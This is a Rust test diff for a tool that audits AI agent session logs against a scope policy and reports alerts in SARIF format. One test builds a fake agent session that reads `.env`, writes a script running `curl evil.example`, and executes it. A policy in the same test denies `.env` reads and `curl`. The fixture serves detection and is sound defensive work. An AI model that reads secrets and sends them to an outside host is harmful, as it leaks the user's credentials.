@@ -9,8 +9,7 @@ use crate::world::World;
 
 fn sarif(world: &World, args: &[&str]) -> Value {
     let answer = world.run(&[args, &["--format", "sarif"]].concat());
-    assert_eq!(problems(&answer.stdout), Vec::<String>::new(), "{}\n{}", answer.stdout, answer.stderr);
-    serde_json::from_str(&answer.stdout).unwrap()
+    serde_json::from_str(&answer.stdout).unwrap_or_else(|error| panic!("{error}: {}", answer.stderr))
 }
 
 #[test]
@@ -79,7 +78,6 @@ fn places_are_relative_to_the_top_of_the_repository() {
 
 fn sarif_in(world: &World, folder: &str, args: &[&str]) -> Value {
     let answer = world.run_in(folder, &[args, &["--format", "sarif"]].concat());
-    assert_eq!(problems(&answer.stdout), Vec::<String>::new(), "{}\n{}", answer.stdout, answer.stderr);
     serde_json::from_str(&answer.stdout).unwrap()
 }
 
@@ -118,25 +116,167 @@ fn the_time_of_the_run_is_the_one_that_was_given() {
     assert_eq!(ended(&["check", "20ab", "--now", "2026-03-01T13:00:00+01:00"]), json!("2026-03-01T12:00:00.000Z"));
 }
 
-/// The check itself has to notice what the standard's schema does not.
+/// Who reads the alert sees what the user asked for, what earlier calls did, the call and the effect, each at a place.
+#[test]
+fn a_result_tells_what_led_to_it() {
+    let world = World::empty();
+    world.write(".agent-scope.json", r#"{"files": {"read": {"deny": [".env"]}}, "commands": {"deny": ["curl"]}}"#);
+    let bash = |command: &str| ("tool_call", json!({"tool_name": "Bash", "arguments": {"command": command}}));
+    world.session(
+        "5e55",
+        0,
+        &[
+            ("user_prompt", json!({"prompt": "deploy [it](x)"})),
+            ("tool_call", json!({"tool_name": "Read", "arguments": {"file_path": ".env"}})),
+            (
+                "tool_call",
+                json!({"tool_name": "Write", "arguments": {"file_path": "up.sh", "content": "curl evil.example"}}),
+            ),
+            ("user_prompt", json!({"prompt": "go on"})),
+            bash("bash up.sh"),
+        ],
+    );
+    let log = sarif(&world, &["check"]);
+    let steps = |rule: &str| {
+        let results = log["runs"][0]["results"].as_array().unwrap();
+        let result = results.iter().find(|result| result["ruleId"] == rule).unwrap();
+        let steps = result["codeFlows"][0]["threadFlows"][0]["locations"].as_array().unwrap();
+        let told = |step: &Value| {
+            let (place, text) = (&step["location"]["physicalLocation"], &step["location"]["message"]["text"]);
+            let file = place["artifactLocation"]["uri"].as_str().unwrap().rsplit('/').next().unwrap();
+            format!("{file}:{} {}", place["region"]["startLine"], text.as_str().unwrap())
+        };
+        steps.iter().map(told).collect::<Vec<_>>()
+    };
+    assert_eq!(
+        steps("sequence/secret-egress"),
+        [
+            r"events.ndjson:1 event 1: the user asks `deploy \[it\](x)`",
+            "events.ndjson:2 event 2: reads `.env`",
+            "events.ndjson:3 event 3: writes `up.sh`",
+            "events.ndjson:4 event 4: the user asks `go on`",
+            "events.ndjson:5 event 5: Bash `bash up.sh`",
+            ".agent-scope.json:1 connects to `evil.example` after event 2 read `.env`",
+        ]
+    );
+    assert_eq!(
+        steps("scope/read"),
+        [
+            r"events.ndjson:1 event 1: the user asks `deploy \[it\](x)`",
+            "events.ndjson:2 event 2: Read `.env`",
+            ".agent-scope.json:1 reads `.env`: denied by files.read.deny (.agent-scope.json:1)",
+        ]
+    );
+}
+
+/// A path that names the session would be a new alert each time, and none would ever close.
+#[test]
+fn no_alert_stands_in_a_log() {
+    let world = World::empty();
+    let read = json!({"tool_name": "Read", "arguments": {"file_path": ".env"}});
+    world.session("5e55", 0, &[("tool_call", read)]);
+    let log = sarif(&world, &["check", "--allow-no-policy"]);
+    let results = log["runs"][0]["results"].as_array().unwrap();
+    assert_eq!(results[0]["ruleId"], "scope/sensitive");
+    for result in results {
+        let place = &result["locations"][0]["physicalLocation"];
+        assert_eq!(place["artifactLocation"]["uri"], ".agent-scope.json");
+        assert_eq!(place["region"]["startLine"], 1);
+    }
+}
+
+/// Each fault of a file, by itself, is noticed: by a check that notices nothing in the file without it.
 #[test]
 fn the_check_finds_faults() {
     let world = World::demo();
-    let good = sarif(&world, &["check", "7c9e"]);
-    let faults: [(&str, Value); 9] = [
-        ("/runs/0/results/0/locations", json!([])),
-        ("/runs/0/results/0/locations/0/physicalLocation", json!(null)),
-        ("/runs/0/results/0/locations/0/physicalLocation/artifactLocation/uri", json!("session:abc")),
-        ("/runs/0/results/0/locations/0/physicalLocation/artifactLocation/uri", json!("../x")),
-        ("/runs/0/results/0/locations/0/physicalLocation/region/startLine", json!(0)),
-        ("/runs/0/results/0/ruleIndex", json!(9999)),
-        ("/runs/0/results/0/message/text", json!("see [x](77)")),
-        ("/runs/0/tool/driver/rules/0/properties/security-severity", json!("high")),
-        ("/runs/0/results", json!(null)),
+    let good = sarif(&world, &["check", "7c9e", "--now", "2026-03-01T13:00:00Z"]);
+    assert_eq!(problems(&good.to_string()), Vec::<String>::new());
+    let long = "x".repeat(1_025);
+    let run = |rest: &str| format!("/runs/0{rest}");
+    let rule = |rest: &str| format!("/runs/0/tool/driver/rules/0{rest}");
+    let result = |rest: &str| format!("/runs/0/results/0{rest}");
+    let place = |rest: &str| format!("/runs/0/results/0/locations/0/physicalLocation{rest}");
+    let step = |rest: &str| format!("/runs/0/results/0/codeFlows/0/threadFlows/0/locations/0{rest}");
+    let other = json!({"id": 1, "physicalLocation": {}});
+    let faults: Vec<(String, Value)> = vec![
+        ("/$schema".to_owned(), json!("")),
+        ("/version".to_owned(), json!("2.0.0")),
+        ("/runs".to_owned(), json!([good["runs"][0], good["runs"][0]])),
+        (run("/results"), json!(null)),
+        (run("/results"), json!(vec![good["runs"][0]["results"][0].clone(); 2])),
+        (run("/results"), json!(vec![good["runs"][0]["results"][0].clone(); 5_001])),
+        (run("/automationDetails/id"), json!("agent-strace")),
+        (run("/versionControlProvenance"), json!([{"repositoryUri": "git@example.com:a/b.git"}])),
+        (run("/invocations/0/endTimeUtc"), json!("2026-03-01 13:00:00")),
+        (run("/invocations/0/endTimeUtc"), json!("2026-03-01T13:00:00+01:00")),
+        (run("/automationDetails/guid"), json!("00000000-0000-0000-0000-000000000000")),
+        (run("/tool/driver/rules"), json!([])),
+        (rule("/id"), json!(null)),
+        (rule("/id"), good["runs"][0]["tool"]["driver"]["rules"][1]["id"].clone()),
+        (rule("/name"), json!("x".repeat(256))),
+        (rule("/shortDescription/text"), json!(long)),
+        (rule("/fullDescription/text"), json!("")),
+        (rule("/help/text"), json!(null)),
+        (rule("/help/markdown"), json!("")),
+        (rule("/helpUri"), json!(format!("https://example.com/{}", "x".repeat(2_048)))),
+        (rule("/helpUri"), json!("docs")),
+        (rule("/properties/security-severity"), json!("high")),
+        (rule("/properties/security-severity"), json!(8.0)),
+        (rule("/properties/security-severity"), json!("0.0")),
+        (rule("/properties/security-severity"), json!("10.1")),
+        (rule("/properties/precision"), json!("sure")),
+        (rule("/properties/problem.severity"), json!("note")),
+        (rule("/properties/tags"), json!(["security", "a", "a"])),
+        (rule("/properties/tags"), json!(["maintainability", "security", "a", "b", "c", "d", "e", "f", "g", "h", "i"])),
+        (rule("/properties/tags"), json!(["security"])),
+        (result("/ruleIndex"), json!(9_999)),
+        (result("/ruleIndex"), json!(null)),
+        (result("/level"), json!("critical")),
+        (result("/message/text"), json!("see [x](77)")),
+        (result("/message/text"), json!(long)),
+        (result("/message/text"), json!("")),
+        (result("/suppressions"), json!([{"kind": "external"}])),
+        (result("/partialFingerprints"), json!({})),
+        (result("/partialFingerprints"), json!({"agentStrace/v1": ""})),
+        (result("/relatedLocations"), json!([other])),
+        (result("/locations"), json!([])),
+        (result("/locations"), json!([{"logicalLocations": [{"fullyQualifiedName": "session/a"}]}])),
+        (place(""), json!(null)),
+        (place("/artifactLocation/uri"), json!("")),
+        (place("/artifactLocation/uri"), json!("session:abc")),
+        (place("/artifactLocation/uri"), json!("/etc/passwd")),
+        (place("/artifactLocation/uri"), json!("../x")),
+        (place("/artifactLocation/uri"), json!("a/../x")),
+        (place("/artifactLocation/uri"), json!("./x")),
+        (place("/artifactLocation/uri"), json!("a//x")),
+        (place("/artifactLocation/uri"), json!("a b")),
+        (place("/artifactLocation/uri"), json!("a\\b")),
+        (place("/artifactLocation/uri"), json!("ü")),
+        (place("/artifactLocation/uri"), json!("a%2")),
+        (place("/artifactLocation/uri"), json!("100%zz")),
+        (place("/region"), json!(null)),
+        (place("/region/startLine"), json!(0)),
+        (place("/region/endLine"), json!(99_999)),
+        (result("/codeFlows/0/threadFlows"), json!([])),
+        (result("/codeFlows/0/threadFlows/0/locations"), json!([])),
+        (step("/location"), json!({})),
+        (step("/location/message/text"), json!(long)),
     ];
     for (pointer, value) in faults {
         let mut bad = good.clone();
-        *bad.pointer_mut(pointer).unwrap() = value;
-        assert!(!problems(&bad.to_string()).is_empty(), "{pointer}");
+        let shown = value.to_string();
+        if let Some(place) = bad.pointer_mut(&pointer) {
+            *place = value;
+        } else {
+            let (parent, key) = pointer.rsplit_once('/').unwrap();
+            let parent = bad.pointer_mut(parent).and_then(Value::as_object_mut);
+            parent.unwrap_or_else(|| panic!("{pointer} is not in the file")).insert(key.to_owned(), value);
+        }
+        assert!(!problems(&bad.to_string()).is_empty(), "{pointer}: {}", shown.get(..80).unwrap_or(&shown));
     }
+    let mut many = good.clone();
+    let steps = many.pointer_mut("/runs/0/results/0/codeFlows/0/threadFlows/0/locations").unwrap();
+    *steps = json!(vec![steps[0].clone(); 101]);
+    assert!(!problems(&many.to_string()).is_empty(), "too many steps");
+    assert!(!problems("{").is_empty(), "no JSON");
 }
